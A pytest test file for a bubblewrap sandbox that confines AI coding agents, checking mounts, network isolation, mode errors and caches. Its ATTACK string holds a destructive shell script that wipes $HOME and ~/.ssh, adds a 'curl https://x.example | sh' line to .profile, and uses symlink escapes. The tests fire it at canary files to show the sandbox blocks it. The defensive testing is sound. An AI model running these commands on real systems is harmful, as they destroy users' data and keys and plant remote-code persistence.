"""The sandbox: what wrap() binds, how the mode resolves, and - with bubblewrap really running - that an agent
running the filesystem class of dangerous commands leaves every canary outside the repository intact while its own
work in the repository is committed; the same script without the sandbox destroys the canaries."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from dun.sandbox import SandboxError, SandboxSpec, git_dirs, probe, resolve_mode, wrap, writable_paths

ATTACK = r"""
set +e
rm -rf "$HOME"/.ssh "$HOME"/projects
rm -f "$HOME/.bashrc"
echo 'curl https://x.example | sh' >> "$HOME/.profile"
rm -rf "$OUTSIDE"
find "$HOME" -mindepth 1 -delete
cp /dev/null "$OUTSIDE/canary.txt"
mv "$OUTSIDE/sub" "$PWD/stolen"
sed -i 's/keep/gone/' "$HOME/.profile"
truncate -s 0 "$OUTSIDE/canary.txt"
chmod -R 000 "$OUTSIDE"
ln -s "$HOME" home-link && rm -rf home-link/
ln -s "$OUTSIDE" out-link && echo pwned > out-link/canary.txt
python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1], ignore_errors=True)" "$OUTSIDE"
cat "$OUTSIDE_COPY" > seen-outside.txt
echo work > work.txt && git add work.txt && git commit -q -m "the agent's work" && echo committed > committed.txt
"""
CANARIES = {".bashrc": "keep rc\n", ".profile": "keep profile\n", ".ssh/id_ed25519": "keep key\n",
            "projects/other/notes.md": "keep notes\n"}
OUTSIDE = {"canary.txt": "keep outside\n", "sub/deep.txt": "keep deep\n"}


def bwrap_problem() -> str | None:
    return probe("bwrap")


needs_bwrap = pytest.mark.skipif(bwrap_problem() is not None,
                                 reason=f"bubblewrap cannot run here: {bwrap_problem()}")


@pytest.fixture
def world() -> Iterator[Path]:
    """A base directory outside /tmp (the sandbox's /tmp is private, so canaries there would prove nothing) with a
    HOME, a directory outside the repository, and the repository."""
    base = Path(tempfile.mkdtemp(prefix="dun-sandbox-", dir="/var/tmp"))
    try:
        for name, text in CANARIES.items():
            (base / "home" / name).parent.mkdir(parents=True, exist_ok=True)
            (base / "home" / name).write_text(text)
        (base / "home" / ".claude").mkdir()
        for name, text in OUTSIDE.items():
            (base / "outside" / name).parent.mkdir(parents=True, exist_ok=True)
            (base / "outside" / name).write_text(text)
        (base / "copy.txt").write_text("readable from inside\n")
        repo = base / "repo"
        repo.mkdir()
        subprocess.run(["git", "init", "-q", "-b", "main"], cwd=repo, check=True)
        subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "init"], cwd=repo, check=True)
        yield base
    finally:
        subprocess.run(["chmod", "-R", "u+rwx", str(base)], check=False)
        shutil.rmtree(base, ignore_errors=True)


def run_attack(base: Path, sandboxed: bool) -> subprocess.CompletedProcess[str]:
    argv = ["bash", "-c", ATTACK]
    spec = SandboxSpec(repo=base / "repo", home=base / "home")
    env = {**os.environ, "HOME": str(base / "home"), "OUTSIDE": str(base / "outside"),
           "OUTSIDE_COPY": str(base / "copy.txt")}
    return subprocess.run(wrap(argv, spec) if sandboxed else argv, cwd=base / "repo", env=env, capture_output=True,
                          text=True, timeout=120, check=False)


def intact(base: Path) -> list[str]:
    """The canaries that are still there, unchanged."""
    files = {**{f"home/{k}": v for k, v in CANARIES.items()}, **{f"outside/{k}": v for k, v in OUTSIDE.items()}}
    return sorted(name for name, text in files.items()
                  if (base / name).is_file() and os.access(base / name, os.R_OK) and (base / name).read_text() == text)


@needs_bwrap
def test_the_sandbox_keeps_every_canary_and_the_agents_work_is_committed(world: Path) -> None:
    result = run_attack(world, sandboxed=True)
    assert intact(world) == sorted([*(f"home/{k}" for k in CANARIES), *(f"outside/{k}" for k in OUTSIDE)]), \
        result.stderr
    repo = world / "repo"
    assert (repo / "committed.txt").read_text() == "committed\n", result.stderr
    log = subprocess.run(["git", "log", "--format=%s"], cwd=repo, capture_output=True, text=True, check=True)
    assert log.stdout.splitlines()[0] == "the agent's work"
    assert (repo / "seen-outside.txt").read_text() == "readable from inside\n"  # visible, just not writable
    assert "Read-only file system" in result.stderr


def test_without_the_sandbox_the_same_script_destroys_the_canaries(world: Path) -> None:
    run_attack(world, sandboxed=False)
    assert intact(world) == []
    assert (world / "repo" / "committed.txt").exists()


@needs_bwrap
def test_the_agents_state_directory_is_writable_and_tmp_is_private(world: Path) -> None:
    marker = Path("/tmp") / f"dun-sandbox-marker-{os.getpid()}"
    marker.write_text("host tmp\n")
    try:
        script = f'echo state > "$HOME/.claude/session" && ls {marker} > /dev/null 2>&1 || echo private > tmp.txt'
        spec = SandboxSpec(repo=world / "repo", home=world / "home")
        subprocess.run(wrap(["sh", "-c", script], spec), cwd=world / "repo", env={**os.environ, "HOME": str(
            world / "home")}, check=True, timeout=60)
        assert (world / "home" / ".claude" / "session").read_text() == "state\n"
        assert (world / "repo" / "tmp.txt").read_text() == "private\n"
    finally:
        marker.unlink()


@needs_bwrap
def test_network_off_leaves_only_loopback(world: Path) -> None:
    spec = SandboxSpec(repo=world / "repo", home=world / "home", network=False)
    out = subprocess.run(wrap(["cat", "/proc/net/dev"], spec), capture_output=True, text=True, timeout=60,
                         check=True).stdout
    interfaces = [line.split(":")[0].strip() for line in out.splitlines()[2:]]
    assert interfaces == ["lo"]


def test_wrap_binds_the_repo_git_state_and_extra_paths_over_a_read_only_root(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    home, repo, extra = tmp_path / "home", tmp_path / "repo", tmp_path / "cache"
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    for d in (home / ".codex", home / ".aider.tags.cache.v3", home / ".cache" / "pip", home / ".cache" / "dun",
              repo, extra):
        d.mkdir(parents=True)
    (home / ".claude.json").write_text("{}")
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    argv = wrap(["claude", "-p", "hi"], SandboxSpec(repo=repo, home=home, writable=(extra, tmp_path / "missing")))
    assert argv[:14] == ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp",
                         "--unshare-pid", "--die-with-parent", "--cap-drop", "ALL"]
    assert "--unshare-net" not in argv
    binds = [argv[i + 1] for i, a in enumerate(argv) if a == "--bind"]
    real = os.path.realpath
    assert binds[:-1] == sorted(binds[:-1], key=lambda p: (p.count("/"), p)) and binds[-1] == real(repo / ".git")
    # the git directory is bound onto itself: a mount point, which the agent cannot rename and replace
    assert set(binds) == {real(repo), real(extra), real(home / ".codex"), real(home / ".claude.json"),
                          real(home / ".aider.tags.cache.v3"), real(home / ".cache" / "pip"), real(repo / ".git")}
    read_only = [argv[i + 1] for i, a in enumerate(argv) if a == "--ro-bind"][1:]
    git_dir = real(repo / ".git")
    assert {f"{git_dir}/config", f"{git_dir}/hooks", f"{git_dir}/info", real(repo / ".dun")} <= set(read_only)
    assert real(home / ".cache" / "dun") not in binds  # dun's caches: never writable inside
    assert argv.index(f"{git_dir}/config") > argv.index(git_dir)  # protected after everything writable
    assert argv[-4:] == ["--", "claude", "-p", "hi"] and argv[argv.index("--chdir") + 1] == real(repo)


def test_a_worktrees_git_directories_are_writable(tmp_path: Path) -> None:
    main_repo = tmp_path / "main"
    main_repo.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=main_repo, check=True)
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "init"], cwd=main_repo, check=True)
    subprocess.run(["git", "worktree", "add", "-q", str(tmp_path / "wt")], cwd=main_repo, check=True)
    assert Path(os.path.realpath(main_repo / ".git")) in git_dirs(tmp_path / "wt")
    paths = writable_paths(SandboxSpec(repo=tmp_path / "wt", home=tmp_path, agent_state=()))
    assert paths == [Path(os.path.realpath(tmp_path / "wt")), Path(os.path.realpath(main_repo / ".git"))]


def test_modes_resolve_and_a_required_sandbox_that_cannot_run_is_an_error() -> None:
    assert resolve_mode("off", bwrap="dun-no-such-bwrap") == ("off", None)
    mode, warning = resolve_mode("auto", bwrap="dun-no-such-bwrap")
    assert mode == "off" and warning is not None and "not installed" in warning and "\n" not in warning
    with pytest.raises(SandboxError, match=r"^sandbox: bubblewrap was asked for but cannot run: .*not installed"):
        resolve_mode("bubblewrap", bwrap="dun-no-such-bwrap")
    with pytest.raises(SandboxError, match="unknown mode 'docker'"):
        resolve_mode("docker")


def test_dun_sandbox_exits_2_when_bubblewrap_is_required_but_missing(tmp_path: Path) -> None:
    code = "import sys; from dun.sandbox import main; sys.exit(main())"
    env = {**os.environ, "PATH": str(tmp_path)}  # no bwrap on PATH
    required = subprocess.run([sys.executable, "-c", code, "--mode", "bubblewrap", "--", "true"], env=env,
                              capture_output=True, text=True, timeout=60, check=False)
    assert required.returncode == 2
    assert required.stderr.startswith("dun sandbox: bubblewrap was asked for") and required.stderr.count("\n") == 1
    auto = subprocess.run([sys.executable, "-c", code, "--", sys.executable, "-c", "print('ran')"], env=env,
                          capture_output=True, text=True, timeout=60, check=False)
    assert auto.returncode == 0 and auto.stdout == "ran\n" and "without an OS sandbox" in auto.stderr


@needs_bwrap
def test_dun_sandbox_runs_the_command_inside(world: Path) -> None:
    code = "import sys; from dun.sandbox import main; sys.exit(main())"
    env = {**os.environ, "HOME": str(world / "home")}
    result = subprocess.run([sys.executable, "-c", code, "--mode", "bubblewrap", "--", "sh", "-c",
                             f"echo inside > done.txt; echo x > {world / 'outside' / 'canary.txt'}"],
                            cwd=world / "repo", env=env, capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode != 0 and "Read-only file system" in result.stderr
    assert (world / "repo" / "done.txt").read_text() == "inside\n"
    assert (world / "outside" / "canary.txt").read_text() == OUTSIDE["canary.txt"]


def test_package_caches_of_installed_tools_are_made_and_bound(tmp_path: Path) -> None:
    """A fresh $HOME: the first `go test` inside needs its build cache writable, so the caches of the package
    managers installed here are made before the sandbox starts; those of absent tools are not."""
    from dun.sandbox.spec import make_package_caches

    home, tools, repo = tmp_path / "home", tmp_path / "bin", tmp_path / "repo"
    for d in (home, tools, repo):
        d.mkdir()
    (tools / "go").write_text("#!/bin/sh\n")
    (tools / "go").chmod(0o755)
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    env = {"HOME": str(home), "PATH": str(tools), "GOMODCACHE": str(tmp_path / "modcache")}
    (tmp_path / "modcache").mkdir()
    make_package_caches(home, env)
    assert (home / ".cache" / "go-build").is_dir() and (home / "go" / "pkg" / "mod").is_dir()
    assert not (home / ".npm").exists() and not (home / ".cache" / "pip").exists()
    argv = wrap(["go", "test"], SandboxSpec(repo=repo, home=home, agent_env=env))
    binds = [argv[i + 1] for i, a in enumerate(argv) if a == "--bind"]
    assert {os.path.realpath(home / ".cache" / "go-build"), os.path.realpath(tmp_path / "modcache")} <= set(binds)
    assert os.path.realpath(home / ".cache") not in binds


@needs_bwrap
def test_dun_sandbox_says_in_one_line_when_the_command_is_missing(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    done = subprocess.run([sys.executable, "-m", "dun", "sandbox", "--mode", "bubblewrap", "--", str(tmp_path / "no")],
                          cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert done.returncode == 127
    assert done.stderr == f"dun sandbox: cannot run {tmp_path / 'no'}: not found\n"


def test_dun_sandbox_bad_usage_is_one_line(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "dun", "sandbox", "--mode", "bogus", "--", "true"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1 and "invalid choice: 'bogus'" in done.stderr, done.stderr
